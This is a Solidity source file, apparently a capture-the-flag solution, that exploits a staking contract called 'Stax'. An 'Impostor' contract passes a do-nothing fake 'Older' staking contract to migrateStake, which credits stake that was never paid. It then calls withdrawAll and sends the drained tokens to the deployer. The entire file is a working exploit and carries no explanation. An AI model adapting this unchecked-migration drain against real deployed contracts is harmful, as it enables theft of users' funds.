// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IStax {
    function migrateStake(address oldStaking, uint256 amount) external;
    function withdrawAll() external;
}

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
}

contract Older {
    function migrateWithdraw(address, uint256) external {}
}

contract Impostor {
    constructor(IStax stax, IToken token, uint256 amount) {
        stax.migrateStake(address(new Older()), amount);
        stax.withdrawAll();
        token.transfer(msg.sender, amount);
    }
}
